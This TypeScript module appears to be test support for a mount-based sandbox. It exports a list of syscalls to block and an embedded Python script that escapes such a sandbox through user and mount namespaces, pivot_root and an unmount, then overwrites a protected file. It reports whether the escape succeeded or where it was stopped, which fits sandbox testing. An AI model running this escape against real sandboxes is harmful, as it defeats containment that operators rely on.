/** The known way out of a sandbox that is made of mounts alone, and the doors to it. */

export const doors = ["unshare", "clone", "clone3"] as const

/**
 * Python that goes through a door into a user and mount namespace of its own, with a directory kept open; makes another
 * root, lets go of the old one with all its mounts, and renames a file of its own over a protected one: a mount point in
 * another namespace holds nothing back (rename(2)). Words: the door, the directory, the protected name.
 * It prints `replaced`, or `stopped at CALL: REASON`.
 */
export const escapeScript = `
import ctypes, os, platform, sys
libc = ctypes.CDLL(None, use_errno=True)
door, directory, name = sys.argv[1:4]
arm = platform.machine() == "aarch64"
numbers = {"clone": 220 if arm else 56, "clone3": 435, "pivot_root": 41 if arm else 155}
namespaces = 0x10000000 | 0x20000

def check(call, result):
    if result == -1:
        print("stopped at", call + ":", os.strerror(ctypes.get_errno()))
        sys.stdout.flush()
        os._exit(1)
    return result

def enter():
    if door == "unshare":
        check(door, libc.unshare(namespaces))
        return
    if door == "clone":
        child = check(door, libc.syscall(numbers[door], namespaces | 17, 0, 0, 0, 0))
    else:
        words = (ctypes.c_uint64 * 8)(namespaces, 0, 0, 0, 17, 0, 0, 0)
        child = check(door, libc.syscall(numbers[door], ctypes.byref(words), 64))
    if child != 0:
        os._exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))

with open(os.path.join(directory, "planted"), "w") as planted:
    planted.write("planted")
uid, gid = os.getuid(), os.getgid()
held = os.open(directory, os.O_PATH)
enter()
for file, text in ("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1"):
    with open("/proc/self/" + file, "w") as to:
        to.write(text)
check("mount", libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
os.mkdir("/tmp/old")
check("pivot_root", libc.syscall(numbers["pivot_root"], b"/tmp", b"/tmp/old"))
os.chdir("/")
check("umount2", libc.umount2(b"/old", 2))
os.rename("planted", name, src_dir_fd=held, dst_dir_fd=held)
print("replaced")
sys.stdout.flush()
os._exit(0)
`
